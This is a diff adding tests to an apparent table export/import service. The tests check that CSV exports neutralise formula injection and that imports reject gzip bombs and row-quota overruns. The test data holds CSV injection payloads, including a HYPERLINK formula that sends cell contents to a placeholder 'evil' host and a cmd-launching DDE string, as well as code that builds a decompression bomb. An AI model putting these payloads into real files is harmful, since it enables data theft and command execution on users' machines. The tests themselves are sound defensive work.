@@ -76,6 +76,23 @@ describe('exportTable and importTable through the Files API', () => {
     expect(jobs.body.jobs.map((j: { type: string; status: string }) => [j.type, j.status])).toEqual([['import', 'completed']])
   })
 
+  // Finding 2 of issue 28 (decision 1462): these were written as they are, and a spreadsheet ran them.
+  it('neutralises formula-leading text in a CSV export with a leading quote, and keeps it raw when asked', async () => {
+    await makeTable('formulaTable')
+    const hostile = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', 'plain']
+    await service.request('POST', '/v1/tables/formulaTable/rows', { body: { rows: hostile.map((name, i) => ({ name, score: -i })) } })
+    const fieldsOf = async (query: Record<string, unknown>): Promise<string[][]> => {
+      const exported = await service.request('GET', '/v1/tables/formulaTable/export', { query: { format: 'csv', compress: false, ...query } })
+      expect(exported.status, exported.text).toBe(200)
+      const job = await settled('formulaTable', exported.body.job.id)
+      expect(job['status']).toBe('completed')
+      const { parseCsv } = await import('../../server/src/transfer/index.js')
+      return parseCsv((await download(job['outputFileId'])).toString('utf8')).slice(1).map((record) => [record[3]!.text, record[4]!.text])
+    }
+    expect(await fieldsOf({})).toEqual(hostile.map((name, i) => [name === 'plain' ? name : `'${name}`, String(-i)]))
+    expect(await fieldsOf({ rawFormulas: true })).toEqual(hostile.map((name, i) => [name, String(-i)]))
+  })
+
   it('exports gzipped JSON with the schema by default', async () => {
     await makeTable('jsonTable')
     await service.request('POST', '/v1/tables/jsonTable/rows', { body: { rows: [{ name: 'x', score: 3 }] } })
@@ -133,5 +150,56 @@ describe('exportTable and importTable through the Files API', () => {
     await makeTable('missTable')
     const res = await service.request('POST', '/v1/tables/missTable/import', { body: { fileId: 'file_01ABCDEFGHJKMNPQRSTVWXYZ01' } })
     expect([res.status, res.body.type]).toEqual([404, 'ResourceNotFound'])
+  })
+})
+
+// Finding 3 of issue 28 (decision 1463): a 51 KB gzip of 26.2 M rows of `x` imported without bound.
+describe('imports are bounded: decompression ratio, rows per table and per bot', () => {
+  it('refuses a gzip file that expands more than 100 times, naming the limit, and imports nothing', async () => {
+    await makeTable('bombTable')
+    const bomb = gzipSync(Buffer.from(`name\n${`${'x'.repeat(200)}\n`.repeat(20_000)}`), { level: 9 })
+    expect(bomb.byteLength).toBeLessThan(20_000)
+    const fileId = await upload('bomb.csv.gz', bomb)
+    const imported = await service.request('POST', '/v1/tables/bombTable/import', { body: { fileId } })
+    expect(imported.status, imported.text).toBe(200)
+    const job = await settled('bombTable', imported.body.job.id)
+    expect(job['status']).toBe('failed')
+    expect(job['error']).toMatch(/^fileId: the gzip content expands more than 100 times \(\d+ bytes from the first \d+ bytes of the file\), over the import decompression ratio limit of 100 \(botshelf serve --import-max-ratio\)$/)
+    expect((await service.request('GET', '/v1/tables/bombTable')).body.rows).toBe(0)
+  })
+
+  it('refuses an import that would take a table or the bot past its row quota, before any row is written', async () => {
+    const small = await startTestService({ importLimits: { tableRows: 5, botRows: 8 } })
+    try {
+      const post = (path: string, body: unknown) => small.request('POST', path, { body })
+      await post('/v1/tables', { name: 'quotaTable', schema: { type: 'object', properties: { name: { type: 'string' } } } })
+      await post('/v1/tables', { name: 'otherTable', schema: { type: 'object', properties: { name: { type: 'string' } } } })
+      await post('/v1/tables/quotaTable/rows', { rows: [{ name: 'a' }, { name: 'b' }] })
+      await post('/v1/tables/otherTable/rows', { rows: [{ name: 'c' }, { name: 'd' }, { name: 'e' }, { name: 'f' }] })
+      const runImport = async (table: string, rows: number): Promise<Record<string, any>> => {
+        const bytes = Buffer.from(`name\n${'row\n'.repeat(rows)}`)
+        const upsert = await small.request('PUT', '/v1/files', { body: { key: `rows-${table}-${rows}.csv`, size: bytes.byteLength } })
+        const url = new URL(upsert.body.file.uploadUrl)
+        expect((await small.app.fetch(new Request(`http://botshelf.test${url.pathname}${url.search}`, { method: 'PUT', body: bytes }))).status).toBe(200)
+        const started = await post(`/v1/tables/${table}/import`, { fileId: upsert.body.file.id })
+        const deadline = Date.now() + 10_000
+        for (;;) {
+          const job = (await small.request('GET', `/v1/tables/${table}/jobs`)).body.jobs.find((j: { id: string }) => j.id === started.body.job.id)
+          if (job.status === 'completed' || job.status === 'failed') return job
+          if (Date.now() > deadline) throw new Error(`import still ${job.status}`)
+          await new Promise((resolve) => setTimeout(resolve, 20))
+        }
+      }
+      const tooMany = await runImport('quotaTable', 4)
+      expect(tooMany).toMatchObject({ status: 'failed' })
+      expect(tooMany['error']).toBe('fileId: the import would take table "quotaTable" past its quota of 5 rows (it holds 2 and the file has at least 4); no row was imported (botshelf serve --import-table-rows)')
+      const pastBot = await runImport('quotaTable', 3)
+      expect(pastBot['error']).toBe("fileId: the import would take the bot's tables past their quota of 8 rows (they hold 6 and the file has at least 3); no row was imported (botshelf serve --import-bot-rows)")
+      expect((await small.request('GET', '/v1/tables/quotaTable')).body.rows).toBe(2)
+      expect(await runImport('quotaTable', 2)).toMatchObject({ status: 'completed' })
+      expect((await small.request('GET', '/v1/tables/quotaTable')).body.rows).toBe(4)
+    } finally {
+      await small.close()
+    }
   })
 })
